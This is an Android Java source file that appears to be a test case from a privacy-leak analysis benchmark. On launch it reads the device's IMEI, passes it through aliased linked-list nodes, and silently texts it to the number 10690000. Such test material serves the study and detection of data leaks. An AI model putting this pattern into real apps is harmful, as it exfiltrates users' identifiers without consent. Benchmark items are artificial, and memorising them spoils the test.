package cn.privlens.suite.two_links_back;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Link a = new Link("甲");
        Link b = new Link("乙");
        Link c = new Link("丙");
        a.join(b).join(c);
        c.before.before.text = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        Link from = b;
        SmsManager.getDefault().sendTextMessage("10690000", null, from.before.text, null, null);
    }
}
